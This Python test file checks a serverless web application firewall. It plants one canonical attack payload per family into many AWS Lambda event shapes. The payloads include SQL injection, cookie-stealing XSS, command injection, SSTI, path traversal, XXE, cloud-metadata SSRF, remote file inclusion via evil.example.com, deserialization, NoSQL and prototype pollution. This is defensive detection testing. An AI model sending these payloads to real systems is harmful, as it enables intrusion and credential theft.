"""End to end with the real detectors: one attack per family, planted in the event shapes the
benchmark uses (query, JSON body, form body, header, SQS body, S3 key, DynamoDB attribute, Kinesis),
and the real sample events stay clean."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from fw_helpers import all_sample_events, event

from hullguard.firewall import Firewall

FW = Firewall()

# One canonical payload per family. Families whose payload lives in a key are planted as JSON.
PAYLOADS = {
    "sqli": "1' UNION SELECT username, password FROM users--",
    "xss": "<img src=x onerror=alert(document.cookie)>",
    "cmdi": "127.0.0.1; cat /etc/passwd",
    "code": "__import__('os').system('id')",
    "ssti": "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "path": "../../../../etc/passwd",
    "rfi": "http://evil.example.com/shell.txt?",
    "ssrf": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "xxe": '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    "deser": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAAB"
    "AAAAABdAABYXQAAWJ4",
    "ldap": "*)(uid=*))(|(uid=*",
    "xpath": "' or count(/*)=1 or '",
    "crlf": "en\r\nSet-Cookie: admin=true",
}


def _query(value: str) -> tuple[Any, str]:
    ev = event("apiGatewayProxyEvent.json")
    ev["queryStringParameters"]["parameter1"] = value
    return ev, "queryStringParameters.parameter1"


def _json_body(value: str) -> tuple[Any, str]:
    ev = event("apiGatewayProxyV2Event.json")
    ev["body"] = json.dumps({"user": {"bio": value}})
    return ev, "body.user.bio"


def _form_body(value: str) -> tuple[Any, str]:
    ev = event("albEvent.json")
    ev["headers"]["content-type"] = "application/x-www-form-urlencoded"
    ev["body"] = "name=ann&comment=" + quote_plus(value)
    return ev, "body.comment"


def _header(value: str) -> tuple[Any, str]:
    ev = event("lambdaFunctionUrlEvent.json")
    ev["headers"]["x-custom"] = value
    return ev, "headers.x-custom"


def _sqs_body(value: str) -> tuple[Any, str]:
    ev = event("sqsEvent.json")
    ev["Records"][1]["body"] = json.dumps({"order": {"note": value}})
    return ev, "Records[1].body.order.note"


def _s3_key(value: str) -> tuple[Any, str]:
    ev = event("s3Event.json")
    ev["Records"][0]["s3"]["object"]["key"] = quote_plus(value)
    return ev, "Records[0].s3.object.key"


def _dynamodb(value: str) -> tuple[Any, str]:
    ev = event("dynamoStreamEvent.json")
    ev["Records"][0]["dynamodb"]["NewImage"]["Message"] = {"S": value}
    return ev, "Records[0].dynamodb.NewImage.Message.S"


def _kinesis(value: str) -> tuple[Any, str]:
    ev = event("kinesisStreamEvent.json")
    ev["Records"][0]["kinesis"]["data"] = base64.b64encode(json.dumps({"msg": value}).encode()).decode()
    return ev, "Records[0].kinesis.data.msg"


SHAPES: dict[str, Callable[[str], tuple[Any, str]]] = {
    "query": _query,
    "json body": _json_body,
    "form body": _form_body,
    "header": _header,
    "sqs body": _sqs_body,
    "s3 key": _s3_key,
    "dynamodb attribute": _dynamodb,
    "kinesis data": _kinesis,
}
# An XML document is a body, not a value inside one; a raw CR LF cannot be an S3 key.
SKIP = {("xxe", "s3 key"), ("xxe", "header"), ("crlf", "s3 key")}
CASES = [(fam, shape) for fam in PAYLOADS for shape in SHAPES if (fam, shape) not in SKIP]


@pytest.mark.parametrize(("family", "shape"), CASES, ids=[f"{f}-{s}" for f, s in CASES])
def test_attack_family_is_detected_in_each_shape(family: str, shape: str) -> None:
    ev, location = SHAPES[shape](PAYLOADS[family])
    verdict = FW.inspect(ev)
    found = {(f.attack, f.location) for f in verdict.findings}
    assert (family, location) in found, sorted(found)
    assert verdict.blocked and not verdict.error


def test_nosql_operator_and_prototype_pollution_live_in_keys() -> None:
    ev, _ = _json_body("x")
    ev["body"] = json.dumps({"username": "admin", "password": {"$ne": None}, "__proto__": {"isAdmin": True}})
    found = {(f.attack, f.location) for f in FW.inspect(ev).findings}
    assert ("nosql", "body.password.$ne") in found and ("proto", "body.__proto__") in found
    ev, _ = _query("x")
    ev["queryStringParameters"] = {"user[$ne]": "1"}
    assert any(f.attack == "nosql" for f in FW.inspect(ev).findings)


def test_constructor_prototype_keys_reach_the_proto_detector() -> None:
    # Both keys are letters only, which the walk otherwise skips as unable to carry an injection.
    ev, _ = _json_body("x")
    ev["body"] = json.dumps({"constructor": {"prototype": {"isAdmin": True}}})
    found = {(f.attack, f.location) for f in FW.inspect(ev).findings}
    assert ("proto", "body.constructor.prototype") in found
    ev["body"] = json.dumps({"shape": {"prototype": "circle"}, "constructor": "Acme Builders"})
    assert not FW.inspect(ev).findings


def test_xml_body_with_external_entity() -> None:
    ev = event("apiGatewayProxyEvent.json")
    ev["headers"]["Content-Type"] = "application/xml"
    ev["body"] = PAYLOADS["xxe"]
    assert ("xxe", "body") in {(f.attack, f.location) for f in FW.inspect(ev).findings}


def test_encoded_attacks_with_real_detectors() -> None:
    for value in (
        quote(quote(PAYLOADS["sqli"])),
        "".join(f"&#x{ord(c):x};" for c in PAYLOADS["xss"]),
        "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "http://0xa9fea9fe/latest/meta-data/",
    ):
        ev, location = _query(value)
        assert any(f.location.startswith(location) for f in FW.inspect(ev).findings), value


def test_a_metadata_url_escaped_inside_a_page_url_is_found_in_its_decoding() -> None:
    # The page URL itself has one public host (the SSRF detector's one-host path judges it); the
    # escaped URL in its query shows in the URL-decoded view, once or twice encoded.
    for value in (
        "https://shop.example.com/go?u=" + quote(PAYLOADS["ssrf"], safe=""),
        "https://shop.example.com/go?u=" + quote(quote(PAYLOADS["ssrf"], safe=""), safe=""),
    ):
        ev, location = _query(value)
        assert ("ssrf", location) in {(f.attack, f.location) for f in FW.inspect(ev).findings}, value
    ev, _ = _query("https://shop.example.com/il/%D7%98%D7%95%D7%A4?colorId=004")
    assert not FW.inspect(ev).findings


@pytest.mark.parametrize("path", all_sample_events(), ids=lambda p: p.name)
def test_real_sample_events_are_clean_with_the_real_detectors(path: Any) -> None:
    verdict = FW.inspect(json.loads(path.read_text()))
    assert verdict.findings == [], [(f.rule_id, f.location, f.evidence) for f in verdict.findings]


def test_a_failed_invocation_record_is_clean_wherever_its_destination_delivers_it() -> None:
    """An on-failure destination's record carries the function's Node.js stack trace, whose frames name
    /var/task/index.js:18:18: a place in source code, not a file asked for, directly or from a queue."""
    record = event("lambdaDestinationFailureRecord.json")
    queued = event("sqsEvent.json")
    queued["Records"] = [{**queued["Records"][0], "body": json.dumps(record)}]
    for delivered in (record, queued):
        verdict = FW.inspect(delivered)
        assert verdict.findings == [], [(f.rule_id, f.location) for f in verdict.findings]
    # the same frame's file, asked for on its own, is still reported
    record["requestPayload"]["Records"][0]["s3"]["object"]["key"] = "../../var/task/index.js"
    assert "HG-PATH-003" in {f.rule_id for f in FW.inspect(record).findings}


@pytest.mark.parametrize(
    ("key", "family"),
    [("uploads//.bashrc", "path"), ("uploads/alice/%26+id", "cmdi"), ("uploads/c%3A%5Cboot.ini", "path")],
)
def test_payload_after_the_folders_of_an_s3_key_is_judged_from_its_start(key: str, family: str) -> None:
    ev = event("s3Event.json")
    ev["Records"][0]["s3"]["object"]["key"] = key
    found = {(f.attack, f.location) for f in FW.inspect(ev).findings}
    assert (family, "Records[0].s3.object.key") in found, found


@pytest.mark.parametrize(
    "key", ["uploads/2024/05/IMG_0001.jpg", "year%3D2024/month%3D05/part-0000.parquet", "a+%2F+b/%26+c+%7C+d"]
)
def test_ordinary_s3_keys_stay_clean(key: str) -> None:
    ev = event("s3Event.json")
    ev["Records"][0]["s3"]["object"]["key"] = key
    assert not FW.inspect(ev).findings


def test_every_class_a_repeated_type_key_names_is_read_not_only_the_last() -> None:
    """fastjson instantiates each "@type" in turn (its AutoCloseable bypass: a JDK interface first, then a
    class of the attacker's own package); Python's parser, like most, keeps the last value only."""
    body = '{"@type":"java.lang.AutoCloseable","@type":"vul.VulAutoCloseable","cmd":"id"}'
    event = {"resource": "/", "path": "/", "httpMethod": "POST", "headers": {"content-type": "application/json"},
             "body": body}
    evidence = [f.evidence for f in Firewall().inspect(event).findings if f.rule_id == "HG-DESER-003"]
    assert any("java.lang.AutoCloseable" in text for text in evidence), evidence


def test_json_ld_types_repeated_through_a_document_are_no_classes() -> None:
    body = '{"@context":"https://schema.org","@type":"Product","offers":{"@type":"Offer","price":"9.99"}}'
    event = {"resource": "/", "path": "/", "httpMethod": "POST", "headers": {"content-type": "application/json"},
             "body": body}
    assert Firewall().inspect(event).findings == []
